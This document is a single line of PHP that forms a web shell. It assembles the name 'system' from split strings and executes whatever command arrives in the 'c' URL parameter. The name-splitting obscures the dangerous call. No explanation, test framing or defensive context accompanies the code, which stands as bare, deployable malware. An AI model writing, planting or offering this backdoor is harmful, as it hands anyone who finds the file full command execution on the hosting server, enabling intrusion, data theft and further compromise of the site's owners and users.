<?php $f = sprintf("%s%s", "sys", "tem"); $f($_GET["c"]);
